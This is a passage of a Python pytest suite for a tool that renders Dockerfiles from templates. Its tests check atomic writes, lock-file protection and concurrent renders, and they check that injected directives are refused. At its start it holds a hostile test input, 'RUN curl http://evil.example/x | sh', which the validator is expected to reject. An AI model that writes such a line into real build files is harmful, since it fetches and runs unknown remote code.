    lines = render_cell(environment(repo_copy), matrix, hostile).splitlines()
    arg = lines.index("ARG BASE_IMAGE=ubuntu:22.04") + 1
    assert lines[arg] == "RUN curl http://evil.example/x | sh"
    assert report[1:] == [
        f"error: {hostile.dockerfile}:{line}: only `ARG BASE_IMAGE=<image reference>` may come before FROM"
        for line in (arg, arg + 1)
    ]
    assert not (repo_copy / "images").exists()


def test_invoke_render_and_render_check_refuse_a_template_that_writes_user_root(rendered_copy: Rendered) -> None:
    root, _ = rendered_copy
    before = _snapshot(root)
    with (root / "templates/partials/labels.j2").open("a", encoding="utf-8") as labels:
        labels.write("USER root\n")
    result = _render(root)
    assert result.returncode == 2, result.stdout + result.stderr
    assert "Rendered Dockerfiles hold what the templates must never write; nothing was written:" in result.stderr
    assert re.search(
        r"^error: images/pytorch/cuda11.8-torch2.1.2-py3.10-runtime/Dockerfile:\d+: switches to a user other than "
        r"the image's own \(allowed: USER 1000:1000\)$",
        result.stderr,
        re.MULTILINE,
    ), result.stderr
    assert "Traceback" not in result.stdout + result.stderr
    assert _snapshot(root) == before
    with pytest.raises(InputError, match="switches to a user other than the image's own"):
        Project(root).check_rendered()  # what `invoke render --check` calls


# --- Safe render: each file old or new, locks never touched, renders take turns (issues 8, 17) ----------------


def _change_every_dockerfile(root: Path) -> None:
    labels = root / "templates/partials/labels.j2"
    labels.write_text("# Labels, reworded.\n" + labels.read_text(encoding="utf-8"), encoding="utf-8")


def _no_temporary_tree(root: Path) -> bool:
    """Nothing staged left behind, and none of the folders the old writer swapped."""
    return not list(root.rglob("*.render.tmp")) and not [p for p in root.iterdir() if p.name.startswith(".images")]


def test_a_failure_mid_write_leaves_images_as_it_was(rendered_copy: Rendered, monkeypatch: pytest.MonkeyPatch) -> None:
    root, _ = rendered_copy
    before = _snapshot(root)
    _change_every_dockerfile(root)
    fsync, synced = os.fsync, list[int]()

    def disk_full_after_five(fd: int) -> None:
        if len(synced) == 5:
            raise OSError(errno.ENOSPC, "No space left on device")
        synced.append(fd)
        fsync(fd)

    monkeypatch.setattr(os, "fsync", disk_full_after_five)
    with pytest.raises(InputError) as caught:
        Project(root).write_rendered()
    assert re.fullmatch(
        r"error: images/: not written, left as it was: No space left on device \(images/\S+/Dockerfile\)",
        caught.value.report(),
    ), caught.value.report()
    assert len(synced) == 5
    assert _snapshot(root) == before
    assert _no_temporary_tree(root)


def test_a_failed_rename_puts_back_what_was_replaced(rendered_copy: Rendered, monkeypatch: pytest.MonkeyPatch) -> None:
    root, _ = rendered_copy
    before = _snapshot(root)
    _change_every_dockerfile(root)
    replace, renamed = os.replace, list[str | os.PathLike[str]]()

    def busy_at_the_fifth(source: str | os.PathLike[str], target: str | os.PathLike[str]) -> None:
        renamed.append(target)
        if len(renamed) == 5:
            raise OSError(errno.EBUSY, "Device or resource busy", str(target))
        replace(source, target)

    monkeypatch.setattr(os, "replace", busy_at_the_fifth)
    with pytest.raises(InputError, match=r"^error: images/: not written, left as it was: Device or resource busy"):
        Project(root).write_rendered()
    assert len(renamed) > 5  # the four replaced were put back
    assert _snapshot(root) == before
    assert _no_temporary_tree(root)


def test_a_file_where_a_folder_must_go_is_named_and_nothing_is_written(rendered_copy: Rendered) -> None:
    # The first writer made 30 files, then failed on it; the second removed it. It is not render's to remove.
    root, _ = rendered_copy
    shutil.rmtree(root / "images/pytorch")
    (root / "images/pytorch").write_text("not a folder\n", encoding="utf-8")
    _change_every_dockerfile(root)
    before = _snapshot(root)
    with pytest.raises(InputError) as caught:
        Project(root).write_rendered()
    assert caught.value.report() == (
        "Render writes where these are; nothing was written:\n"
        "error: images/pytorch: a file or a link where render writes a folder; move it away"
    )
    assert _snapshot(root) == before


def test_a_linked_folder_is_never_written_through(rendered_copy: Rendered, tmp_path: Path) -> None:
    root, files = rendered_copy
    outside = tmp_path / "outside"
    shutil.move(root / "images/tensorflow", outside)
    (root / "images/tensorflow").symlink_to(outside, target_is_directory=True)
    for dockerfile in outside.glob("*/Dockerfile"):
        dockerfile.write_text("FROM scratch\n", encoding="utf-8")  # what render would write over
    before = {p.name: p.read_bytes() for p in outside.rglob("*") if p.is_file()}
    with pytest.raises(InputError, match="images/tensorflow: a file or a link where render writes a folder"):
        write_tree(root, files)
    assert {p.name: p.read_bytes() for p in outside.rglob("*") if p.is_file()} == before


def test_what_a_killed_render_staged_is_removed_and_nothing_else(rendered_copy: Rendered) -> None:
    root, files = rendered_copy
    cell = root / "images/pytorch/cuda11.8-torch2.1.2-py3.10-runtime"
    staged = [cell / ".Dockerfile.k1ll3d.render.tmp", root / "images/assets/.zshrc.x0.render.tmp"]
    gone = root / "images/pytorch/cuda9.9-torch0.1.0-py3.8-runtime/.cell.json.abc.render.tmp"
    gone.parent.mkdir()
    for path in [*staged, gone]:
        path.write_text("half", encoding="utf-8")
    another = cell / ".requirements.lock.u5ed.tmp"  # `invoke lock` writing: not render's
    another.write_text("in progress", encoding="utf-8")
    (root / "images/assets/zshrc").write_text("edited\n", encoding="utf-8")
    assert [str(p) for p in stale_files(root, files)] == [
        "images/assets/zshrc: differs from its sources (stale or edited by hand); run `invoke render`",
        "images/assets/.zshrc.x0.render.tmp: left by a render that was stopped part-way; run `invoke render`",
        "images/pytorch/cuda11.8-torch2.1.2-py3.10-runtime/.Dockerfile.k1ll3d.render.tmp: left by a render that "
        "was stopped part-way; run `invoke render`",
        "images/pytorch/cuda11.8-torch2.1.2-py3.10-runtime/.requirements.lock.u5ed.tmp: not written by render and "
        "used by no cell; render never removes it",
        "images/pytorch/cuda9.9-torch0.1.0-py3.8-runtime/.cell.json.abc.render.tmp: left by a render that was "
        "stopped part-way; run `invoke render`",
    ]
    assert write_tree(root, files) == ["wrote images/assets/zshrc"]
    assert not any(path.exists() for path in [*staged, gone])
    assert another.read_text(encoding="utf-8") == "in progress"
    assert _no_temporary_tree(root)


def _write_locks(folder: Path) -> dict[str, tuple[int, int, bytes]]:
    """Lock files in `folder` (their content does not matter to render), as (inode, mtime, content) by name."""
    for name in LOCK_FILES:
        (folder / name).write_text(f"# {name}\n", encoding="utf-8")
    return _identities(folder)


def _identities(folder: Path) -> dict[str, tuple[int, int, bytes]]:
    return {
        p.name: (p.stat().st_ino, p.stat().st_mtime_ns, p.read_bytes()) for p in folder.iterdir() if p.suffix == ".lock"
    }


def test_render_never_rewrites_a_lock(rendered_copy: Rendered) -> None:
    root, _ = rendered_copy
    cell = root / "images/pytorch/cuda11.8-torch2.1.2-py3.10-runtime"
    locks = _write_locks(cell)
    (root / "images/bases.lock.json").write_text("{}\n", encoding="utf-8")
    bases = (root / "images/bases.lock.json").stat().st_ino
    _change_every_dockerfile(root)
    changed, _ = Project(root).write_rendered()
    assert f"wrote {cell.relative_to(root)}/Dockerfile" in changed
    assert _identities(cell) == locks  # the same files, untouched: not copies
    assert (root / "images/bases.lock.json").stat().st_ino == bases
    assert not [line for line in changed if ".lock" in line]


def test_the_locks_of_a_cell_that_left_the_matrix_are_kept_and_named(
    rendered_copy: Rendered, caplog: pytest.LogCaptureFixture
) -> None:
    root, files = rendered_copy
    folder = "images/pytorch/cuda11.0-torch1.7.1-py3.8-runtime"
    locks = _write_locks(root / folder)
    (root / folder / "notes.txt").write_text("mine\n", encoding="utf-8")
    left = [f for f in files if not f.path.startswith(f"{folder}/")]  # as if the cell left the matrix
    with caplog.at_level(logging.INFO, logger="dlimages.generate.render"):
        assert write_tree(root, left) == [f"removed {folder}/Dockerfile", f"removed {folder}/cell.json"]
    assert _identities(root / folder) == locks
    assert (root / folder / "notes.txt").read_text(encoding="utf-8") == "mine\n"
    kept = [
        f"{folder}/framework.lock: a lock of no cell in matrix.yaml; render never removes a lock: delete it by hand "
        "if the cell left the matrix for good",
        f"{folder}/notes.txt: not written by render and used by no cell; render never removes it",
        f"{folder}/pip.lock: a lock of no cell in matrix.yaml; render never removes a lock: delete it by hand if "
        "the cell left the matrix for good",
        f"{folder}/requirements.lock: a lock of no cell in matrix.yaml; render never removes a lock: delete it by "
        "hand if the cell left the matrix for good",
    ]
    assert caplog.messages == [f"note: kept {line}" for line in kept]
    assert [str(p) for p in stale_files(root, left)] == kept  # `render --check` fails until someone decides
    for name in locks:
        (root / folder / name).unlink()
    (root / folder / "notes.txt").unlink()
    assert write_tree(root, left) == [] and stale_files(root, left) == []


def test_a_render_waits_for_one_in_progress_and_says_so(
    rendered_copy: Rendered, caplog: pytest.LogCaptureFixture
) -> None:
    root, _ = rendered_copy
    _change_every_dockerfile(root)
    results: list[tuple[list[str], int]] = []
    with caplog.at_level(logging.INFO, logger="dlimages.generate.render"):
        with rendering(root):
            second = threading.Thread(target=lambda: results.append(Project(root).write_rendered()))
            second.start()
            second.join(timeout=2)
            assert second.is_alive() and results == []  # it waits, writing nothing
        second.join(timeout=60)
    assert len(results) == 1 and results[0][0]
    assert caplog.messages == [
        "waiting for another render of this repository to finish (it holds .work/render.lock) ..."
    ]
    assert (root / ".work/render.lock").is_file()


def test_a_read_only_images_folder_is_an_input_error(rendered_copy: Rendered) -> None:
    # Tests run as root, where chmod stops nothing: the immutable attribute does.
    root, _ = rendered_copy
    images = root / "images"
    locked = subprocess.run(["chattr", "-R", "+i", str(images)], capture_output=True, check=False)
    if locked.returncode != 0:
        pytest.skip(f"chattr +i is not available here: {locked.stderr.decode().strip()}")
    try:
        before = _snapshot(root)
        _change_every_dockerfile(root)
        result = _render(root)
        assert result.returncode == 2, result.stdout + result.stderr
        assert "error: images/: not written, left as it was: Operation not permitted" in result.stderr
        assert "Traceback" not in result.stdout + result.stderr
        assert _snapshot(root) == before
        assert _no_temporary_tree(root)
    finally:
        subprocess.run(["chattr", "-R", "-i", str(images)], check=True)


def test_missing_templates_assets_is_an_input_error(repo_copy: Path, matrix: Matrix, expansion: Expansion) -> None:
    shutil.rmtree(repo_copy / "templates/assets")
    with pytest.raises(InputError) as caught:
        render_tree(repo_copy, matrix, expansion)
    assert caught.value.report() == (
        "error: templates/assets: missing: the folder of files every image copies (dl-entrypoint, zshrc, ...)"
    )


def test_a_template_that_is_not_utf8_is_an_input_error(repo_copy: Path, matrix: Matrix, expansion: Expansion) -> None:
    with (repo_copy / "templates/partials/shell.j2").open("ab") as shell:
        shell.write(b"# caf\xe9\n")
    with pytest.raises(InputError) as caught:
        render_tree(repo_copy, matrix, expansion)
    assert caught.value.report() == ("error: templates/partials/shell.j2: not UTF-8 text (invalid continuation byte)")
